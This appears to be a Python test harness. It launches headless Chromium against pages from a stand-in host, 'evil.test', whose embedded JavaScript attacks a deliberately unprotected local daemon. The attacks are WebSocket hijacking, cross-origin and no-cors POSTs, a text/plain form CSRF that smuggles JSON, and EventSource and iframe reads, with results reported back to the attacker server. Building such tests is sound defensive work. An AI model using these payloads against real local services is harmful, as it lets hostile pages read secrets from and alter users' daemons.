"""A real Chromium that visits an attacker's pages, one after the other, and what those pages saw.

The attacker's server answers on every loopback port it is given: it serves the pages, tells each when to
begin, and takes their reports. `OpenServer` is a careless daemon on which every attack works.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

EVIL = "evil.test"
REPORT_S = 90.0
_FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage",
    "--disable-extensions", "--no-default-browser-check", "--metrics-recording-only",
)  # fmt: skip
_GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

PAGE = """<!doctype html><meta charset=utf-8><title>attack</title><body><script>
const plan = __PLAN__;
const later = ms => new Promise(done => setTimeout(done, ms));
const capped = (work, name) => Promise.race([work, later(plan.patience_ms).then(() => ({timeout: true}))])
  .catch(error => ({error: String(error)})).then(result => [name, result]);
const socket = (url, protocols) => new Promise(done => {
  const seen = {opened: false, messages: []};
  const ws = protocols ? new WebSocket(url, protocols) : new WebSocket(url);
  ws.onopen = () => { seen.opened = true; ws.send(plan.auth); setTimeout(() => ws.close(), 500); };
  ws.onmessage = event => seen.messages.push(String(event.data).slice(0, 200));
  ws.onclose = event => { seen.code = event.code; done(seen); };
});
const get = async (url, options) => {
  const answer = await fetch(url, options);
  return {status: answer.status, type: answer.type, body: (await answer.text()).slice(0, 500)};
};
const events = url => new Promise(done => {
  const source = new EventSource(url);
  const end = seen => { source.close(); done(seen); };
  source.onopen = () => end({opened: true});
  source.onmessage = event => end({opened: true, body: event.data});
  source.onerror = () => end({opened: false});
});
const framed = url => new Promise(done => {
  const frame = document.createElement("iframe");
  frame.onload = () => { let body = null;
    try { body = frame.contentDocument.body.innerText; } catch (error) { body = null; }
    done({body}); };
  frame.src = url; document.body.append(frame);
});
const form = url => new Promise(done => {
  const frame = document.createElement("iframe"); frame.name = "sink"; document.body.append(frame);
  const sent = document.createElement("form");
  Object.assign(sent, {method: "POST", action: url, target: "sink", enctype: "text/plain"});
  const field = document.createElement("input");
  field.name = plan.change.slice(0, -1) + ',"x":"'; field.value = '"}';
  sent.append(field); document.body.append(sent);
  frame.onload = () => { let body = null;
    try { body = frame.contentDocument.body.innerText; } catch (error) { body = null; }
    if (body !== "") done({body}); };
  sent.submit();
});
const json = {"Content-Type": "application/json"};
const attack = async () => Object.fromEntries(await Promise.all([
  capped(socket(plan.ws), "socket"),
  capped(socket(plan.ws, ["hivectl.v1"]), "socket with subprotocol"),
  capped(get(plan.http + "/healthz"), "read health"),
  capped(get(plan.http + "/healthz", {mode: "no-cors"}), "fetch health blindly"),
  capped(get(plan.http + "/rpc", {method: "POST", body: plan.change, mode: "no-cors",
    headers: {"Content-Type": "text/plain"}}), "post text"),
  capped(get(plan.http + "/rpc", {method: "POST", body: plan.change, headers: json}), "post json"),
  capped(get(plan.http + "/rpc", {method: "POST", body: plan.change,
    headers: {...json, Authorization: "Bearer " + plan.token}}), "post json with the token"),
  capped(events(plan.http + "/api/v1/events?streams=*"), "event stream"),
  capped(framed(plan.http + "/healthz"), "frame"),
  capped(form(plan.http + "/rpc"), "form"),
]));
(async () => {
  await fetch(plan.control + "/loaded?" + plan.name, {method: "POST"});
  while ((await (await fetch(plan.control + "/begin?" + plan.name)).text()) !== "go") await later(50);
  const token = await (await fetch(plan.control + "/token?" + plan.name)).text();
  plan.token = token;
  const next = await (await fetch(plan.control + "/report?" + plan.name,
    {method: "POST", body: JSON.stringify(await attack())})).text();
  if (next) location = next;
})();
</script>"""


def find_chromium() -> str | None:
    """The program, when there is one."""
    names = ("chromium", "chromium-browser", "google-chrome")
    return next((path for name in names if (path := shutil.which(name))), None)


class _Quiet(BaseHTTPRequestHandler):
    """One request a connection, no log."""

    def log_message(self, *_: object) -> None:
        return

    def reply(
        self, body: bytes, kind: str = "text/plain", status: int = 200, **headers: str
    ) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.send_header("Cache-Control", "no-store")
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        with suppress(OSError):
            self.wfile.write(body)
        self.close_connection = True

    def body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length") or 0))


@contextmanager
def serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[int]:
    """A server on a free loopback port."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class Attacker:
    """Serves pages by name at any of its ports and keeps their reports."""

    def __init__(self) -> None:
        self.plans: dict[str, dict[str, Any]] = {}
        self.next: dict[str, str] = {}
        self.reports: dict[str, dict[str, Any]] = {}
        self.loaded: set[str] = set()
        self.begun: set[str] = set()
        self.token = ""
        self._changed = threading.Condition()

    def wait(self, what: str, name: str) -> None:
        """Until a page has `loaded`, or its report has come. Raises AssertionError."""
        there = self.loaded if what == "loaded" else self.reports
        with self._changed:
            if not self._changed.wait_for(lambda: name in there, REPORT_S):
                raise AssertionError(f"{name}: nothing {what} within {REPORT_S:.0f} s")

    def begin(self, name: str) -> None:
        """Let the page go on."""
        with self._changed:
            self.begun.add(name)

    def take(self, what: str, name: str, body: bytes) -> bytes:
        """What a page told or asked."""
        with self._changed:
            if what == "/loaded":
                self.loaded.add(name)
            elif what == "/report":
                self.reports[name] = json.loads(body)
            self._changed.notify_all()
            if what == "/begin":
                return b"go" if name in self.begun else b"wait"
            if what == "/token":
                return self.token.encode()
            return self.next.get(name, "").encode() if what == "/report" else b""

    def handler(self) -> type[BaseHTTPRequestHandler]:
        """The handler of one of its ports."""
        attacker = self

        class Handler(_Quiet):
            def do_GET(self) -> None:
                path, _, name = self.path.partition("?")
                if path == "/attack" and name in attacker.plans:
                    page = PAGE.replace("__PLAN__", json.dumps(attacker.plans[name]))
                    self.reply(page.encode(), "text/html")
                else:
                    answer = attacker.take(path, name, b"")
                    self.reply(answer, Access_Control_Allow_Origin="*")

            def do_POST(self) -> None:
                path, _, name = self.path.partition("?")
                answer = attacker.take(path, name, self.body())
                self.reply(answer, Access_Control_Allow_Origin="*")

        return Handler


class OpenServer:
    """A daemon without any check: what the attacks do to it shows that they would work."""

    def __init__(self) -> None:
        self.changes: list[bytes] = []
        self.sockets: list[str] = []

    def handler(self, attacker: Attacker) -> type[BaseHTTPRequestHandler]:
        server, pages = self, attacker.handler()

        class Handler(pages):  # type: ignore[misc, valid-type]
            def do_GET(self) -> None:  # noqa: N802
                if self.headers.get("Upgrade", "").lower() == "websocket":
                    self._open()
                elif self.path == "/healthz":
                    self.reply(b"ok\n")
                elif self.path.startswith("/api/v1/events"):
                    self.reply(b"data: secret\n\n", "text/event-stream")
                else:
                    super().do_GET()

            def do_POST(self) -> None:  # noqa: N802
                if self.path == "/rpc":
                    server.changes.append(self.body())
                    self.reply(b'{"result":{}}', "application/json")
                else:
                    super().do_POST()

            def _open(self) -> None:
                key = self.headers["Sec-WebSocket-Key"].encode()
                accept = base64.b64encode(hashlib.sha1(key + _GUID).digest()).decode()
                self.send_response(101)
                self.send_header("Upgrade", "websocket")
                self.send_header("Connection", "Upgrade")
                self.send_header("Sec-WebSocket-Accept", accept)
                if wanted := self.headers.get("Sec-WebSocket-Protocol"):
                    self.send_header("Sec-WebSocket-Protocol", wanted)
                self.end_headers()
                server.sockets.append(self.headers.get("Origin", ""))
                with suppress(OSError):
                    self.wfile.write(b"\x81\x06secret")
                    self.rfile.read(1)
                    self.wfile.write(b"\x88\x02\x03\xe8")
                self.close_connection = True

        return Handler


@contextmanager
def visiting(program: str, url: str, folder: Path) -> Iterator[None]:
    """Chromium with a fresh profile at `url`; everything it started is gone afterwards."""
    argv = [
        program,
        *_FLAGS,
        f"--user-data-dir={folder / 'profile'}",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        url,
    ]
    env = {"HOME": str(folder), "PATH": os.environ["PATH"], "LANG": "C.UTF-8"}
    with (folder / "chromium.out").open("wb") as output:
        process = subprocess.Popen(
            argv, env=env, stdin=subprocess.DEVNULL, stdout=output, stderr=output, start_new_session=True
        )  # fmt: skip
        try:
            yield
        finally:
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait(20)
